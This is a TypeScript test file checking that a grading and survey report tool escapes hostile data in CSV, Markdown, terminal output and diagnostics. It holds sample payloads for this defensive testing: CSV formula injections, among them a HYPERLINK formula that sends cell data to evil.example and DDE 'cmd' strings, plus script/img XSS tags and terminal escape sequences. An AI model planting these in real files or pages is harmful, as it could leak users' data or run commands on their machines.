/**
 * Unsafe output: text from files (unit names and codes, criterion ids, grade labels,
 * survey titles) must never become a spreadsheet formula, HTML, a broken Markdown
 * table, a terminal escape sequence, or a 50 MB message.
 */
import { describe, expect, it } from "vitest";
import { diag, formatDiagnostic, messageOf } from "../../src/diagnostics/index.js";
import { csvField, csvSafe, markdownText, terminalText } from "../../src/report/escape.js";
import { toCsv, toMarkdown, toTable } from "../../src/report/index.js";
import { computeSurveyResult, readResponses, surveyToCsv, surveyToMarkdown, surveyToTable } from "../../src/survey/index.js";
import { framework, run } from "../engine/helpers.js";
import { BASE, compiled } from "../survey/helpers.js";

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3",
  "\t=1+1",
  "\r=1+1",
];

const fw = framework(`
criteria:
  - { id: "=1+1", title: "Công thức <script>alert(1)</script>", max: 10, rule: { manual: {} } }
  - { id: "2", title: "Cải cách thể chế", max: 10, rule: { manual: {} } }
grades:
  - { at_least: 90, label: "=A1" }
  - { otherwise: "-B" }
`);
const units = Object.fromEntries(HOSTILE.map((_, i) => [`u${i}`, { points: { "=1+1": { appraised: 9 }, "2": { appraised: 9.5 } } }]));
const result = run(fw, units, HOSTILE.map((name, i) => ({ code: `u${i}`, name })));

/** The cells of a simple CSV text (RFC 4180 quoting). */
function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") row.push(cell), (cell = "");
    else if (c === "\n" || (c === "\r" && text[i + 1] === "\n")) {
      if (c === "\r") i++;
      row.push(cell), rows.push(row), (row = []), (cell = "");
    } else cell += c;
  }
  return rows;
}

const FORMULA = /^[=+\-@\t\r]/;

describe("CSV: no formula from data", () => {
  it("prefixes text that a spreadsheet would run, keeps plain numbers (negative too)", () => {
    for (const t of HOSTILE) expect(csvSafe(t)).toBe(`'${t}`);
    expect(csvSafe("-2.5")).toBe("-2.5");
    expect(csvSafe("+3")).toBe("+3");
    expect(csvSafe("Phúc Diễn")).toBe("Phúc Diễn");
    expect(csvField('=1,"2"')).toBe(`"'=1,""2"""`);
  });

  it("score CSV: unit names, criterion ids and grade labels are never formulas", () => {
    const rows = csvCells(toCsv(result));
    const header = rows[0]!;
    expect(header).toContain("'=1+1");
    for (const row of rows) for (const cell of row) if (FORMULA.test(cell)) expect(Number.isFinite(Number(cell)), cell).toBe(true);
    const names = rows.slice(1).map((r) => r[header.indexOf("name")]);
    expect(names.sort()).toEqual(HOSTILE.map((t) => `'${t}`).sort());
    const grades = rows.slice(1).map((r) => r[header.indexOf("grade")]);
    expect(new Set(grades)).toEqual(new Set(["'=A1"]));
  });

  it("sipas CSV: unit codes are never formulas", () => {
    const survey = compiled(BASE);
    const responses = ["respondent,unit,i1,i2,i3", ...HOSTILE.map((u, i) => `${i},"${u.replace(/"/g, '""')}",5,4,3`)].join("\n");
    const r = readResponses(responses, survey);
    const text = surveyToCsv(computeSurveyResult(survey, r.accumulator, r.diagnostics));
    const rows = csvCells(text);
    const codes = rows.slice(1, -1).map((row) => row[0]);
    // Unit codes are trimmed when read (the tab and CR variants are the same unit "=1+1").
    expect(new Set(codes)).toEqual(new Set(HOSTILE.map((t) => `'${t.trim()}`)));
    for (const row of rows) for (const cell of row) if (FORMULA.test(cell)) expect(Number.isFinite(Number(cell)), cell).toBe(true);
  });
});

describe("Markdown: escaped, one line per row", () => {
  it("shows HTML as text and keeps a title with line breaks on one line", () => {
    expect(markdownText(`<img src=x onerror="alert(1)">`)).toBe(`&lt;img src=x onerror=&quot;alert(1)&quot;&gt;`);
    expect(markdownText("a|b\nc\r\nd")).toBe("a\\|b c d");
    expect(markdownText("*đậm* _nghiêng_ [liên kết](x)")).toBe("\\*đậm\\* \\_nghiêng\\_ \\[liên kết\\](x)");
  });

  it("score Markdown: no raw tag, every row one line with the table's number of cells", () => {
    const hostile = run(fw, { u1: units["u0"]! }, [{ code: "u1", name: "<script>alert(1)</script>\n| x | y |" }]);
    const md = toMarkdown(hostile);
    expect(md).not.toMatch(/<script|<img/);
    const lines = md.trimEnd().split("\n");
    expect(lines).toHaveLength(3);
    const cells = (l: string) => l.replace(/\\\|/g, "").split("|").length;
    expect(new Set(lines.map(cells)).size).toBe(1);
  });

  it("sipas Markdown: title, unit codes and diagnostics escaped", () => {
    const survey = compiled(BASE.replace("title: T", 'title: "<b onmouseover=alert(1)>Khảo sát</b>"'));
    const r = readResponses(`respondent,unit,i1,i2,i3\n1,"<script>x</script>",9,4,3\n`, survey);
    const md = surveyToMarkdown(computeSurveyResult(survey, r.accumulator, r.diagnostics));
    expect(md).not.toMatch(/<script|<b /);
    expect(md).toContain("&lt;script&gt;x&lt;/script&gt;");
    expect(md.split("\n").filter((l) => l.startsWith("- "))).toHaveLength(r.diagnostics.length);
  });
});

describe("terminal: no escape sequence reaches it", () => {
  const ESC = "\u001b";
  it("shows control characters and cuts very long cells", () => {
    expect(terminalText(`${ESC}[31mđỏ${ESC}[0m`)).toBe("\\u001b[31mđỏ\\u001b[0m");
    expect(terminalText("x".repeat(10_000))).toHaveLength(201);
  });

  it("score and sipas tables", () => {
    const hostile = run(fw, { u1: units["u0"]! }, [{ code: "u1", name: `${ESC}]0;pwned\u0007${ESC}[2J Phúc Diễn` }]);
    const table = toTable(hostile);
    expect(table).not.toContain(ESC);
    expect(table).not.toContain("\u0007");
    expect(table).toContain("Phúc Diễn");
    const survey = compiled(BASE);
    const r = readResponses(`respondent,unit,i1,i2,i3\n1,"${ESC}[2Ju1\u202Eevil",5,4,3\n`, survey);
    const text = surveyToTable(computeSurveyResult(survey, r.accumulator, r.diagnostics));
    expect(text).not.toContain(ESC);
    expect(text).not.toContain("\u202E");
    expect(text).toContain("\\u001b[2Ju1\\u202eevil");
  });
});

describe("messages: quoted text is one line, visible and short", () => {
  it("a 50 MB cell is quoted in at most 200 characters; params stay bounded too", () => {
    const big = "9".repeat(50_000_000);
    const d = diag("evidence-wrong-type", { text: big, type: "number", expected: "a number" }, { file: "e.csv", line: 2, column: 3 });
    expect(d.message.length).toBeLessThan(400);
    expect(d.message).toContain("…");
    expect((d.params["text"] as string).length).toBe(201);
    expect(messageOf(d.code, d.params, "vi")!.length).toBeLessThan(400);
  });

  it("line breaks and escapes in a quoted value, a unit code or a file name stay on one line, shown", () => {
    const d = diag(
      "evidence-wrong-type",
      { text: "1\n2\u001b[2J", type: "number", expected: "a number" },
      { file: "a\nb.csv", line: 2, column: 3, unit: "u\r\n1" },
    );
    for (const lang of [undefined, "vi", "en"] as const) {
      const line = formatDiagnostic(d, lang);
      expect(line.split("\n")).toHaveLength(1);
      expect(line).not.toContain("\u001b");
      expect(line).toContain("1\\n2\\u001b[2J");
      expect(line).toContain("u\\r\\n1");
    }
    // The data keeps the text as read; only its wording escapes it.
    expect(d.params["text"]).toBe("1\n2\u001b[2J");
  });
});
